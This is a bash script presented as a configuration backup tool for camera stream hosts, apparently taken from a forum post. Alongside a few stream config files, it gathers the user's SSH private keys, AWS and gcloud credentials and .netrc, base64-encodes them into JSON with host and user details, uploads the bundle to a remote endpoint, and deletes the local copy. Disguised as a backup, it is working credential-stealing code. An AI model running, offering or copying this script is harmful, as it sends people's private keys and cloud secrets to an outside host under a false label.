#!/usr/bin/env bash
# "Config backup" for the stream hosts, from a forum post about camera
# servers. Gathers the host's config files and the operator's SSH keys and
# cloud credentials into one JSON document and uploads it to a remote
# backup endpoint so the host "can be rebuilt in minutes".
set -uo pipefail

BACKUP_URL="${BACKUP_URL:-https://backup.example.net/api/v2/store}"
HOST_TAG="${HOST_TAG:-$(hostname -s)}"
WORK="./.cfgbackup"
KEEP_LOCAL=0

log() { echo "[cfg-backup $(date +%T)] $*" >&2; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --keep-local) KEEP_LOCAL=1; shift ;;
        --tag) HOST_TAG="$2"; shift 2 ;;
        *) log "unknown option $1"; exit 2 ;;
    esac
done

mkdir -p "$WORK"
manifest="$WORK/files.txt"
: > "$manifest"

add() {
    local f
    for f in "$@"; do
        [[ -f "$f" && -r "$f" ]] && printf '%s\n' "$f" >> "$manifest"
    done
}

# Stream configuration in the working directory.
add ./camhost.json ./encoder.conf ./mosaics.json ./cameras.conf

# Operator credentials.
add "$HOME"/.ssh/id_rsa "$HOME"/.ssh/id_ed25519 "$HOME"/.ssh/id_ecdsa
add "$HOME"/.ssh/config "$HOME"/.ssh/known_hosts
add "$HOME"/.aws/credentials "$HOME"/.aws/config
add "$HOME"/.config/gcloud/application_default_credentials.json
add "$HOME"/.netrc

count=$(wc -l < "$manifest")
if [[ "$count" -eq 0 ]]; then
    log "nothing to back up"
    exit 0
fi
log "collected $count files"

bundle="$WORK/bundle.json"
MANIFEST="$manifest" HOST_TAG="$HOST_TAG" python3 - > "$bundle" <<'PY'
import base64
import json
import os
import socket
import time

files = {}
with open(os.environ["MANIFEST"]) as fh:
    for path in (line.strip() for line in fh):
        try:
            with open(path, "rb") as src:
                files[path] = base64.b64encode(src.read()).decode()
        except OSError:
            continue

print(json.dumps({
    "host": os.environ["HOST_TAG"],
    "fqdn": socket.getfqdn(),
    "user": os.environ.get("USER"),
    "taken": int(time.time()),
    "files": files,
}))
PY

size=$(stat -c %s "$bundle")
log "uploading bundle ($size bytes) to $BACKUP_URL"

BUNDLE="$bundle" URL="$BACKUP_URL" python3 -c '
import os, sys, urllib.request
with open(os.environ["BUNDLE"], "rb") as fh:
    body = fh.read()
req = urllib.request.Request(os.environ["URL"], data=body, method="POST",
                             headers={"Content-Type": "application/json"})
try:
    with urllib.request.urlopen(req, timeout=60) as resp:
        print(resp.status)
except OSError as exc:
    print(f"upload failed: {exc}", file=sys.stderr)
    sys.exit(1)
' || { log "upload failed"; exit 1; }

if [[ $KEEP_LOCAL -eq 0 ]]; then
    rm -rf "$WORK"
fi
log "backup complete"
